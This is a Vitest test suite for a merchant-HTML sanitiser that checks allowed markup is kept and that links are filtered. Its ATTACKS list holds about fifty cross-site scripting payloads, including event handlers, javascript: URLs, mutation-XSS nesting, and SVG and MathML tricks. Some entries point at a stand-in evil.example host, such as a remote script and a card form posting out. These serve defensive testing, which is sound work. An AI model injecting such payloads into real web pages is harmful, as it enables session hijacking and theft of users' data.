// @vitest-environment happy-dom
// @vitest-environment-options {"settings":{"handleDisabledFileLoadingAsSuccess":true}}
import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { safeHref, safeHtml } from './safe-html.tsx'

afterEach(cleanup)
const shown = (html: string) => render(<div>{safeHtml(html)}</div>).container.firstElementChild as HTMLElement

describe('[RT-18] merchant HTML keeps what is allowed', () => {
  test.each<[string, string, string]>([
    ['paragraphs', '<p>One</p><p>Two</p>', '<p>One</p><p>Two</p>'],
    [
      'emphasis',
      '<p><b>a</b> <i>b</i> <strong>c</strong> <em>d</em></p>',
      '<p><strong>a</strong> <em>b</em> <strong>c</strong> <em>d</em></p>',
    ],
    ['line breaks', '<p>a<br>b</p>', '<p>a<br>b</p>'],
    [
      'lists',
      '<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>',
      '<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>',
    ],
    ['headings, one step down', '<h2>a</h2><h3>b</h3><h4>c</h4>', '<h3>a</h3><h4>b</h4><h5>c</h5>'],
    ['entities', '<p>a &amp; b &lt;c&gt;</p>', '<p>a &amp; b &lt;c&gt;</p>'],
    [
      'https links',
      '<a href="https://a.example/x?y=1">x</a>',
      '<a href="https://a.example/x?y=1" rel="noopener nofollow">x</a>',
    ],
    [
      'mail links',
      '<a href="mailto:a@b.example">x</a>',
      '<a href="mailto:a@b.example" rel="noopener nofollow">x</a>',
    ],
    [
      'phone links',
      '<a href="tel:+96522000000">x</a>',
      '<a href="tel:+96522000000" rel="noopener nofollow">x</a>',
    ],
    ['no words of programs or styles', '<p>a</p><script>let b</script><style>p{}</style>', '<p>a</p>'],
    ['boxes as paragraphs', '<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
    ['boxes of paragraphs as those', '<div><p>a</p><div>b</div></div>', '<p>a</p><p>b</p>'],
  ])('%s', (_, html, expected) => {
    expect(shown(html).innerHTML).toBe(expected)
  })
})

/** Merchant texts that try to run something; each would fill `window.pwned` or leave more than text behind. */
const ATTACKS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  '<img src=x onerror=window.pwned=1>',
  '<img src="x" onerror="window.pwned=1" />',
  '<p onclick="window.pwned=1" onmouseover=window.pwned=1 style="color:red" class=x id=y>text</p>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">text</p>',
  '<a href="javascript:window.pwned=1">text</a>',
  '<a href="JaVaScRiPt:window.pwned=1">text</a>',
  '<a href=" javascript:window.pwned=1">text</a>',
  '<a href="java&#9;script:window.pwned=1">text</a>',
  '<a href="java&#10;script:window.pwned=1">text</a>',
  '<a href="&#106;avascript:window.pwned=1">text</a>',
  '<a href="data:text/html,<script>window.pwned=1</script>">text</a>',
  '<a href="vbscript:x">text</a>',
  '<a href="//evil.example/">text</a>',
  '<a href="/saffron/checkout">text</a>',
  '<a href="http://evil.example/">text</a>',
  '<a href="https://ok.example" target=_blank onclick=window.pwned=1 ping=https://evil.example download>text</a>',
  '<svg onload=window.pwned=1><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.pwned=1">x</math>',
  '<iframe onload="window.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object><embed src="javascript:window.pwned=1">',
  '<form action="https://evil.example"><input name=card><button formaction="javascript:window.pwned=1">Pay</button></form>',
  '<textarea><img src=x onerror=window.pwned=1></textarea>',
  '<title><img src=x onerror=window.pwned=1></title>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">text</noscript>',
  '<template><script>window.pwned=1</script></template>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video><source onerror=window.pwned=1></video>',
  '<audio src=x onerror=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>text</details>',
  '<body onload=window.pwned=1>text',
  '<input autofocus onfocus=window.pwned=1>',
  '<marquee onstart=window.pwned=1>text</marquee>',
  '<!--><img src=x onerror=window.pwned=1>-->',
  '<!-- --!><img src=x onerror=window.pwned=1>',
  '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
  '<p>"><img src=x onerror=window.pwned=1>',
  '<a href="https://ok.example"><a href="javascript:window.pwned=1">text</a></a>',
  '<ul><script>window.pwned=1</script><li onclick=window.pwned=1>text</li></ul>',
  '<custom-element onclick=window.pwned=1>text</custom-element>',
  '<p is="evil-element" slot=x>text</p>',
  '<dialog open><p>text</p></dialog>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '\u0000<scr\u0000ipt>window.pwned=1</script>',
  `${'<b>'.repeat(5000)}text`,
]
const ALLOWED = new Set('p br ul ol li strong em h3 h4 h5 a'.split(' '))

describe('[RT-18] merchant HTML runs nothing and leaves nothing but text and allowed elements', () => {
  test.each(ATTACKS.map((html) => [html.slice(0, 90), html]))('%s', async (_, html) => {
    const problem = vi.spyOn(console, 'error')
    const box = shown(html)
    await new Promise((resolve) => setTimeout(resolve, 0))
    expect(Reflect.get(window, 'pwned')).toBeUndefined()
    for (const element of box.querySelectorAll('*')) {
      expect(ALLOWED).toContain(element.localName)
      const names = element.getAttributeNames()
      expect(names.sort()).toEqual(element.localName === 'a' ? ['href', 'rel'] : [])
      if (element.localName === 'a')
        expect(element.getAttribute('href')).toMatch(/^(https:\/\/|mailto:|tel:)/)
    }
    expect(problem).not.toHaveBeenCalled()
    problem.mockRestore()
  })

  test('a word inside what is not allowed is kept', () => {
    expect(shown('<marquee>All <span>sales</span> final</marquee>').textContent).toBe('All sales final')
  })
})

test.each<[string, string | null]>([
  ['https://a.example', 'https://a.example/'],
  ['HTTPS://A.example/', 'https://a.example/'],
  ['mailto:a@b.example', 'mailto:a@b.example'],
  ['tel:+965', 'tel:+965'],
  ['http://a.example', null],
  ['ftp://a.example', null],
  ['javascript:alert(1)', null],
  ['\u0001javascript:alert(1)', null],
  ['relative/path', null],
  ['', null],
])('[RT-18] the link %j becomes %j', (href, expected) => {
  expect(safeHref(href)).toBe(expected)
})
